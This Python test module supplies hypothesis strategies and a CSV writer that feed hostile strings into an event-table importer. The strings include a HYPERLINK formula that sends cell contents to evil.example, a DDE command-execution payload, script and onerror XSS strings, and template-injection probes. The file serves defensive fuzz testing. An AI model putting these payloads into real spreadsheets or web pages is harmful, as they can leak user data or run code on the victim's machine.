"""Hostile text for tests: what a malicious or careless file could put in a name, a place or
a note (spreadsheet formulas, HTML and SVG markup, scripts, template syntax, quotes, line
breaks, right-to-left text), as hypothesis strategies and as a generic event table the
importer reads with no options."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import strategies as st

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@x", "-2+3", "-3.5",
           "=cmd|' /C calc'!A0", '<a href="https://evil.example/">x</a>',
           '<span style="font-size:200px">big</span>', "<script>alert(1)</script>",
           "<img src=x onerror=alert(1)>", "&lt;b&gt;", '"quoted", with comma', "line\nbreak",
           "درنة", "{{7*7}}", "%s%n"]
TEXT_FIELDS = ("actor1", "actor2", "place", "summary", "summary_fr", "notes", "source",
               "source_title")
COLUMNS = ("date", "lon", "lat", "event_type", "sub_event_type", "url") + TEXT_FIELDS

_characters = st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\x00")
hostile_text = (st.sampled_from(HOSTILE)
                | st.tuples(st.sampled_from(list("=+-@\t\r<") + HOSTILE),
                            st.text(_characters, max_size=20)).map("".join)
                | st.text(_characters, min_size=1, max_size=30)
                ).map(str.strip).filter(bool)
hostile_rows = st.lists(st.fixed_dictionaries({f: hostile_text for f in TEXT_FIELDS}),
                        min_size=1, max_size=4)


def hostile_csv(path: Path, table: list[dict]) -> Path:
    """A generic event table (import it with no options), row n at longitude -3.5 + n."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(COLUMNS)
    for n, row in enumerate(table):
        writer.writerow(["2016-04-21", -3.5 + n, 32.5, "Battles", "Armed clash",
                         "https://example.org/a"] + [row[f] for f in TEXT_FIELDS])
    path.write_text(text.getvalue(), encoding="utf-8", newline="")
    return path
